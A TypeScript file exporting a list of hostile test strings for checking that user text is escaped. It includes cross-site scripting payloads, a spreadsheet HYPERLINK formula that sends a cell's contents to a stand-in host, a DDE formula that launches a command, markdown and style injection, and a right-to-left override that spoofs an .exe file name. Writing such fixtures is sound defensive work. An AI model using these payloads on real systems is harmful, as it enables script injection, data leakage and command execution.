/** Words that run or break out where somebody forgot to write them as text; for tests and the gallery. */
export const HOSTILE_WORDS: readonly string[] = [
  "<script>window.hurt=1</script>",
  '"><img src=x onerror="window.hurt=1">',
  "</text></svg><svg onload=window.hurt=1>",
  "]]><!--</title><style>*{display:none}</style>",
  "[click](javascript:window.hurt=1)",
  "![x](https://elsewhere.example/x.png) https://elsewhere.example",
  '=HYPERLINK("https://elsewhere.example?"&A1,"open")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "a | b\r\n| --- |\n# heading `code` **bold**",
  "&lt;img src=x onerror=window.hurt=1&gt; \u202egnp.exe \u2028=1+1",
];
